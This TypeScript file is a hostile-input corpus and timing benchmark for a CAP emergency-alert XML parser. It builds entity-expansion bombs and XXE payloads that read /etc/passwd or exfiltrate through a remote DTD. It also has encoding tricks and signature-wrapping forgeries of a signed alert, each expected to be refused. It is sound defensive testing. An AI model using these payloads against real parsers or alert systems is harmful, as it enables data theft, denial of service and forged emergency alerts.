// Hostile XML against the CAP parser (issue 15, "Hostile input"): the corpus used by test/security/xml-attacks.test.ts,
// and, run directly, the time each refusal takes (wall and CPU, median and max of 20). The tests assert the refusals
// only; the times are recorded here and in docs/benchmarks.md.
// Run: node --import tsx bench/xml-attacks.ts
import { pathToFileURL } from 'node:url';
import { capToXml, parseCap, CapError, type CapErrorCode } from '../src/alerts/cap/index.ts';
import { generateSigningKeyPair, signCap, verifyCap, DSIG_NS } from '../src/alerts/signing/index.ts';
import type { CapAlert } from '../src/alerts/model.ts';

export const CAP_OPEN = '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">';

/** A schema-valid CAP 1.2 alert from `sender`, expiring in 30 minutes. */
export function genuineAlert(over: Partial<CapAlert> = {}, headline = 'Air raid alert', sender = 'alerts@oblast.example.gov.ua'): CapAlert {
  const now = Date.now();
  return {
    identifier: `ext-${now.toString(36)}-${Math.random().toString(36).slice(2, 8)}`, sender, sent: new Date(now - 1000).toISOString().replace(/\.\d+Z$/, '-00:00'),
    status: 'Actual', msgType: 'Alert', scope: 'Public', note: null, references: [],
    info: [{
      language: 'uk', category: ['Security'], event: 'Air raid', eventType: 'air-raid', stage: 'alert', urgency: 'Immediate', severity: 'Extreme',
      certainty: 'Observed', headline, description: null, instruction: 'Go to a shelter', onset: null,
      expires: new Date(now + 30 * 60_000).toISOString().replace(/\.\d+Z$/, '-00:00'), senderName: null, web: null,
      areas: [{ areaDesc: 'Kyiv oblast', regionCodes: ['UA-30'], polygons: [] }],
    }],
    ...over,
  };
}

export interface XmlAttack {
  name: string;
  /** What it tries. */
  attack: string;
  input: string | Buffer;
  /** The CapError codes that count as the right refusal. */
  codes: CapErrorCode[];
}

const withDecl = (body: string, encoding = 'UTF-8') => `<?xml version="1.0" encoding="${encoding}"?>\n${body}`;

/** Every attack, built around one valid alert. `httpBase` is a URL whose server counts requests (none may arrive). */
export function xmlAttacks(httpBase = 'http://127.0.0.1:9'): XmlAttack[] {
  const valid = capToXml(genuineAlert()).replace(/^<\?xml[^>]*\?>\s*/, '');
  const inContact = (text: string) => valid.replace('<instruction>Go to a shelter</instruction>', `<instruction>${text}</instruction>`);
  const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
  const laughs = withDecl(`<!DOCTYPE alert [${lol}]>\n${inContact('&lol9;')}`);
  const utf16 = (s: string, bom: boolean, be = false) => {
    const le = Buffer.from(s, 'utf16le');
    const body = be ? Buffer.from(le).swap16() : le;
    return bom ? Buffer.concat([Buffer.from(be ? [0xfe, 0xff] : [0xff, 0xfe]), body]) : body;
  };
  const cut = valid.indexOf('Go to a shelter');
  const bytesWith = (bytes: number[], decl = 'UTF-8') => Buffer.concat([Buffer.from(withDecl(valid.slice(0, cut), decl)), Buffer.from(bytes), Buffer.from(valid.slice(cut))]);
  const attrs = Array.from({ length: 20_000 }, (_, i) => `a${i}="x"`).join(' ');
  return [
    // Entity expansion
    { name: 'billion laughs', attack: '10^9 "lol" through nested internal entities', input: laughs, codes: ['doctype'] },
    { name: 'quadratic blowup', attack: 'one 50 KB entity referenced 4,000 times', input: withDecl(`<!DOCTYPE alert [<!ENTITY a "${'x'.repeat(50_000)}">]>\n${inContact('&a;'.repeat(4000))}`), codes: ['doctype'] },
    { name: 'undeclared entity', attack: 'entity references without a DOCTYPE', input: inContact('&lol9;&xxe;'), codes: ['entity'] },
    { name: 'entity in an attribute', attack: 'an entity reference inside an attribute value', input: valid.replace('<alert ', '<alert foo="&lol9;" '), codes: ['entity'] },
    { name: 'billion laughs in UTF-16 (BOM)', attack: 'the DOCTYPE hidden from a byte-level check by UTF-16', input: utf16(withDecl(`<!DOCTYPE alert [${lol}]>\n${inContact('&lol9;')}`, 'UTF-16'), true), codes: ['doctype'] },
    { name: 'billion laughs in UTF-16BE (BOM)', attack: 'the same, big-endian', input: utf16(withDecl(`<!DOCTYPE alert [${lol}]>\n${inContact('&lol9;')}`, 'UTF-16'), true, true), codes: ['doctype'] },
    { name: 'billion laughs in UTF-16 (no BOM)', attack: 'the same without a byte order mark (libxml2 would guess UTF-16)', input: utf16(withDecl(`<!DOCTYPE alert [${lol}]>\n${inContact('&lol9;')}`, 'UTF-16'), false), codes: ['not-well-formed', 'doctype'] },
    { name: 'DOCTYPE after a comment', attack: 'a DOCTYPE behind a comment and a processing instruction', input: `<?xml version="1.0"?><!-- x --><?pi x?><!DOCTYPE alert [${lol}]>\n${inContact('&lol9;')}`, codes: ['doctype'] },
    // External entities and DTDs
    { name: 'XXE file', attack: 'external entity file:///etc/passwd', input: withDecl(`<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${inContact('&xxe;')}`), codes: ['doctype'] },
    { name: 'XXE http', attack: 'external entity over HTTP', input: withDecl(`<!DOCTYPE alert [<!ENTITY xxe SYSTEM "${httpBase}/xxe">]>\n${inContact('&xxe;')}`), codes: ['doctype'] },
    { name: 'parameter entities', attack: 'remote DTD through parameter entities (out-of-band exfiltration)', input: withDecl(`<!DOCTYPE alert [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "${httpBase}/evil.dtd">%remote;%send;]>\n${valid}`), codes: ['doctype'] },
    { name: 'external DTD', attack: 'DOCTYPE with a SYSTEM identifier only', input: withDecl(`<!DOCTYPE alert SYSTEM "${httpBase}/cap.dtd">\n${valid}`), codes: ['doctype'] },
    { name: 'public DTD', attack: 'DOCTYPE with a PUBLIC identifier', input: withDecl(`<!DOCTYPE alert PUBLIC "-//A//B//EN" "${httpBase}/p.dtd">\n${valid}`), codes: ['doctype'] },
    { name: 'entity declaration without DOCTYPE', attack: 'an <!ENTITY> outside any DOCTYPE', input: `<?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd">${valid}`, codes: ['entity', 'doctype'] },
    { name: 'XInclude', attack: 'xi:include of /etc/passwd', input: inContact('x</instruction><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><instruction>y'), codes: ['schema'] },
    // Depth and size
    { name: 'deep nesting 100k', attack: '100,000 nested elements (700 KB)', input: CAP_OPEN + '<a>'.repeat(100_000) + '</a>'.repeat(100_000) + '</alert>', codes: ['too-large'] },
    { name: 'deep nesting under the limit', attack: '85,000 unclosed nested elements in 255 KB', input: CAP_OPEN + '<a>'.repeat(85_000), codes: ['not-well-formed'] },
    { name: 'deep nesting closed', attack: '30,000 nested elements, well-formed, in 210 KB', input: CAP_OPEN + '<a>'.repeat(30_000) + '</a>'.repeat(30_000) + '</alert>', codes: ['not-well-formed'] },
    { name: 'huge attribute', attack: 'a 250 KB attribute value', input: valid.replace('<alert ', `<alert foo="${'A'.repeat(250_000)}" `), codes: ['schema'] },
    { name: 'huge attribute over the limit', attack: 'a 1 MB attribute value', input: valid.replace('<alert ', `<alert foo="${'A'.repeat(1_000_000)}" `), codes: ['too-large'] },
    { name: 'many attributes', attack: '20,000 attributes on one element', input: valid.replace('<alert ', `<alert ${attrs} `), codes: ['schema'] },
    { name: 'huge element name', attack: 'a 200 KB element name', input: inContact(`<${'n'.repeat(200_000)}/>`), codes: ['not-well-formed', 'schema'] },
    { name: 'many schema errors', attack: '30,000 empty <info/> (one schema error each)', input: valid.replace('<info>', '<info/>'.repeat(30_000) + '<info>'), codes: ['schema'] },
    { name: 'many bad values', attack: '9,000 invalid <category> values', input: valid.replace('<category>Security</category>', '<category>Bad</category>'.repeat(9000)), codes: ['schema'] },
    // Encodings
    { name: 'UTF-16 without BOM', attack: 'UTF-16LE declared but no byte order mark', input: utf16(withDecl(valid, 'UTF-16'), false), codes: ['not-well-formed'] },
    { name: 'UTF-16BE without BOM', attack: 'UTF-16BE without a byte order mark', input: utf16(withDecl(valid, 'UTF-16'), false, true), codes: ['not-well-formed'] },
    { name: 'UTF-32', attack: 'UCS-4 / UTF-32 bytes', input: Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(Array.from(valid).flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8, 0, 0]))]), codes: ['not-well-formed'] },
    { name: 'broken UTF-8', attack: 'invalid UTF-8 bytes in text', input: bytesWith([0xc3, 0x28, 0xff, 0xfe]), codes: ['not-well-formed'] },
    { name: 'overlong UTF-8', attack: 'an overlong encoding of "<" (0xC0 0xBC)', input: bytesWith([0xc0, 0xbc, 0x21]), codes: ['not-well-formed'] },
    { name: 'UTF-8 surrogate', attack: 'an encoded UTF-16 surrogate (0xED 0xA0 0x80)', input: bytesWith([0xed, 0xa0, 0x80]), codes: ['not-well-formed'] },
    { name: 'NUL byte', attack: 'a NUL byte in text', input: bytesWith([0x00]), codes: ['not-well-formed'] },
    { name: 'declared UTF-8, bytes latin1', attack: 'declaration lies: windows-1252 bytes declared UTF-8', input: bytesWith([0xe9, 0x20, 0xfc]), codes: ['not-well-formed'] },
    { name: 'declared ISO-8859-1, bytes UTF-8', attack: 'declaration lies: UTF-8 text read as latin1 would be mojibake', input: bytesWith([...Buffer.from('Повітряна тривога')], 'ISO-8859-1'), codes: ['not-well-formed'] },
    { name: 'declared UTF-16, bytes 8-bit', attack: 'declaration lies: UTF-16 declared on ASCII bytes', input: Buffer.from(withDecl(valid, 'UTF-16')), codes: ['not-well-formed'] },
    { name: 'declared EBCDIC', attack: 'an encoding the parser does not support', input: Buffer.from(withDecl(valid, 'EBCDIC-US')), codes: ['not-well-formed'] },
    { name: 'declared UTF-7', attack: 'UTF-7 (+ADw- smuggles "<")', input: Buffer.from(withDecl(valid.replace('Go to a shelter', '+ADw-script+AD4-'), 'UTF-7')), codes: ['not-well-formed'] },
  ];
}

export interface WrappingCase {
  name: string;
  attack: string;
  xml: string;
  /** What a verifier holding the authority's key must conclude; 'genuine' = the signature holds and what is read is the genuine alert. */
  expect: 'refused' | 'genuine';
}

/**
 * Signature wrapping against signed CAP: a genuine alert signed by the authority is moved or copied around a forged
 * alert the signature does not cover. Each must either not verify or, if it verifies, be read as the genuine alert.
 */
export function wrappingAttacks(pair = generateSigningKeyPair(), sender = 'alerts@oblast.example.gov.ua') {
  const genuine = genuineAlert({}, 'Drill: all clear', sender);
  genuine.info[0].severity = 'Minor';
  const signed = signCap(capToXml(genuine), pair).signedXml;
  const signedBody = signed.replace(/^<\?xml[^>]*\?>\s*/, '');
  const signature = /<Signature xmlns="[^"]+">[\s\S]*<\/Signature>/.exec(signed)![0];
  const forged = genuineAlert({}, 'FORGED: evacuate now', sender);
  const forgedXml = capToXml(forged);
  const beforeClose = (xml: string, insert: string) => xml.replace(/<\/alert>\s*$/, `${insert}</alert>`);
  const other = generateSigningKeyPair();
  const cases: WrappingCase[] = [
    { name: 'genuine moved into the forged alert\'s Signature/Object', attack: 'classic XSW: the verifier might check the wrapped original, the reader shows the root',
      xml: beforeClose(forgedXml, signature.replace('</Signature>', `<Object>${signedBody}</Object></Signature>`)), expect: 'refused' },
    { name: 'genuine wrapped in a ds:Object beside a copied Signature', attack: 'the signed alert as a sibling in the DSig namespace (schema-lax), the signature copied',
      xml: beforeClose(forgedXml, `<ds:Object xmlns:ds="${DSIG_NS}">${signedBody}</ds:Object>${signature}`), expect: 'refused' },
    { name: 'forged root wrapping the genuine alert', attack: 'a foreign root element holding the signed alert',
      xml: `<Envelope xmlns="urn:x">${signedBody}<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/></Envelope>`, expect: 'refused' },
    { name: 'genuine signature copied onto the forged alert', attack: 'the signature element lifted onto other content',
      xml: beforeClose(forgedXml, signature), expect: 'refused' },
    { name: 'second Signature', attack: 'the genuine signature plus one by another key naming the trusted key id',
      xml: beforeClose(signed, signature.replace(/<SignatureValue>[^<]*/, `<SignatureValue>${signCap(forgedXml, other).signature}`)), expect: 'refused' },
    { name: 'forged info after the signature', attack: 'a forged <info> appended to the signed alert',
      xml: signed.replace('</alert>', `${/<info>[\s\S]*<\/info>/.exec(forgedXml)![0]}</alert>`), expect: 'refused' },
    { name: 'forged alert hidden inside the genuine Signature', attack: 'the signature still holds; the forged alert must not be what is read',
      xml: signed.replace('</SignatureValue>', `</SignatureValue><Object>${forgedXml.replace(/^<\?xml[^>]*\?>\s*/, '')}</Object>`), expect: 'genuine' },
    { name: 're-signed with another key', attack: 'the forged alert signed by a key that is not the authority\'s, KeyName claiming the authority\'s',
      xml: signCap(forgedXml, other).signedXml.replace(/<KeyName>[^<]*<\/KeyName>/, `<KeyName>${pair.keyId}</KeyName>`), expect: 'refused' },
  ];
  return { pair, genuine, forged, signed, cases };
}

/** What a verifier concludes about one wrapping case: refused (parse error or signature invalid) or the alert read. */
export function judgeWrapping(xml: string, pair: ReturnType<typeof generateSigningKeyPair>): { refused: boolean; reason: string; headline: string | null } {
  let alert: CapAlert;
  try {
    alert = parseCap(xml);
  } catch (e) {
    if (e instanceof CapError) return { refused: true, reason: `${e.code}: ${e.message}`, headline: null };
    throw e;
  }
  const v = verifyCap(xml, null, pair.publicKey);
  return { refused: !v.valid, reason: v.reason ?? 'signature holds', headline: alert.info[0]?.headline ?? null };
}

function stats(xs: number[]) {
  const s = [...xs].sort((a, b) => a - b);
  return { median: s[Math.floor(s.length / 2)], max: s[s.length - 1] };
}

async function main() {
  const reps = Number(process.argv[2] ?? 20);
  parseCap(capToXml(genuineAlert())); // compile the schema once, as a running server has
  const rows: string[] = [];
  const time = (f: () => void) => {
    const t = performance.now();
    const c = process.cpuUsage();
    f();
    const u = process.cpuUsage(c);
    return { wall: performance.now() - t, cpu: (u.user + u.system) / 1000 };
  };
  const run = (name: string, bytes: number, f: () => string) => {
    const wall: number[] = [], cpu: number[] = [];
    let outcome = '';
    for (let i = 0; i < reps; i++) {
      const r = time(() => { outcome = f(); });
      wall.push(r.wall); cpu.push(r.cpu);
    }
    const w = stats(wall), c = stats(cpu);
    rows.push(`| ${name} | ${bytes} | ${outcome} | ${w.median.toFixed(1)} | ${w.max.toFixed(1)} | ${c.median.toFixed(1)} | ${c.max.toFixed(1)} |`);
  };
  for (const a of xmlAttacks()) {
    run(a.name, Buffer.byteLength(a.input), () => {
      try { parseCap(a.input); return 'ACCEPTED'; } catch (e) { return e instanceof CapError ? e.code : `CRASH ${(e as Error).name}`; }
    });
  }
  const w = wrappingAttacks();
  for (const c of w.cases) run(`XSW: ${c.name}`, Buffer.byteLength(c.xml), () => { const j = judgeWrapping(c.xml, w.pair); return j.refused ? 'refused' : `verified, reads "${j.headline}"`; });
  console.log(`Node ${process.version}; ${reps} repetitions each; times in ms (parseCap, plus verifyCap for the wrapping cases)\n`);
  console.log('| attack | bytes | outcome | wall median | wall max | CPU median | CPU max |');
  console.log('|---|---:|---|---:|---:|---:|---:|');
  for (const r of rows) console.log(r);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) await main();
